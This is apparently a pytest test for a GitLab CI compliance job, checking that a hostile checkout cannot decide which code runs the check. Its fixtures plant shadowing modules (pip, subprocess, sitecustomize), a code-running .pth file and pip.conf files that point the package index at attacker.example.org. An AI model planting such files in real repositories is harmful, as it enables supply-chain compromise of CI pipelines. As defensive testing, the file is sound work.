"""The job that judges, run as a shell does on a checkout that would rather judge itself."""

from __future__ import annotations

import os
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from ..conftest import ROOT, Tree
from ..support.sweeps import sampled
from ..support.tools import passes, program

JOB: dict[str, Any] = yaml.safe_load(
    (ROOT / "template/.gitlab/ci/compliance.yml").read_text(encoding="utf-8")
)["compliance"]
JUDGE = """\
import os, sys
print("judged by", __file__, "in", os.getcwd(), "with", *sys.argv[1:])
print("pip", os.environ["PIP_CACHE_DIR"], "uv", os.environ["UV_CACHE_DIR"])
"""


@pytest.fixture
def wheel(tmp_path: Path) -> Path:
    """A lisa-scaffold that tells where it runs, and needs nothing."""
    place = tmp_path / "lisa_scaffold-9.9-py3-none-any.whl"
    facts = "lisa_scaffold-9.9.dist-info"
    with zipfile.ZipFile(place, "w") as archive:
        archive.writestr("lisa_scaffold/__init__.py", "")
        archive.writestr("lisa_scaffold/__main__.py", JUDGE)
        archive.writestr(
            f"{facts}/METADATA", "Metadata-Version: 2.1\nName: lisa-scaffold\nVersion: 9.9\n"
        )
        archive.writestr(
            f"{facts}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr(f"{facts}/RECORD", "")
    return place


@pytest.fixture
def checkout(tmp_path: Path, tree: Tree) -> Path:
    """A checkout in which a file lies for each place where a tool might look for one."""
    trap = f"open({str(tmp_path / 'ran')!r}, 'a').write(__name__)\n"
    modules = (
        "venv",
        "pip",
        "ensurepip",
        "argparse",
        "subprocess",
        "sitecustomize",
        "lisa_scaffold",
    )
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    return tree(
        tmp_path / "checkout",
        {
            **{f"{name}.py": trap for name in modules},
            **{f"src/{name}.py": trap for name in modules},
            f".venv/lib/{version}/site-packages/trap.pth": f"import os; {trap}",
            ".venv/pip.conf": "[global]\nindex-url = https://attacker.example.org/simple\n",
            ".venv/pyvenv.cfg": "home = /nowhere\n",
            ".python-version": "3.999\n",
            "uv.toml": 'required-version = "==0.0.1"\n',
            "pyproject.toml": '[tool.uv]\nrequired-version = "==0.0.1"\n',
            "pip.conf": "[global]\nindex-url = https://attacker.example.org/simple\n",
        },
    )


@sampled("has_uv", [True, False], 2)
def test_nothing_in_the_checkout_decides_who_judges(
    tmp_path: Path, checkout: Path, wheel: Path, has_uv: bool
) -> None:
    programs = tmp_path / "programs"
    programs.mkdir()
    if has_uv:
        (programs / "uv").symlink_to(program("uv"))
    (tmp_path / "scratch").mkdir()
    # Whoever else uses the machine can write into the folder for temporary files.
    (tmp_path / "scratch/uv.toml").write_text('required-version = "==0.0.1"\n')
    path = os.pathsep.join([str(programs), f"{sys.base_prefix}/bin", "/usr/bin", "/bin"])
    lines = [*JOB["before_script"], *JOB["script"]]
    said = passes(
        *("sh", "-e", "-c", "\n".join(lines)),
        cwd=checkout,
        env={
            **JOB["variables"],
            "CI_PROJECT_DIR": str(checkout),
            "LISA_SCAFFOLD": str(wheel),
            "PATH": path,
            "PIP_CACHE_DIR": f"{checkout}/.cache/pip",  # as GitLab's manual has it for all jobs
            "PIP_NO_INDEX": "1",
            "PYTHONPATH": f"{checkout}/src",  # as projects have it that test without installing
            "TMPDIR": str(tmp_path / "scratch"),
            "UV_CACHE_DIR": f"{checkout}/.cache/uv",
            "UV_OFFLINE": "1",
        },
    )
    first, second = said.splitlines()[-2:]
    assert first.startswith(f"judged by {tmp_path}/scratch/")
    assert f" in {checkout} with check --fail-on must --format gitlab " in first
    assert str(checkout) not in second
    assert not (tmp_path / "ran").exists()
    assert not (checkout / ".cache").exists()


def test_it_takes_no_cache_that_another_job_filled() -> None:
    assert JOB["cache"] == []
    assert "extends" not in JOB
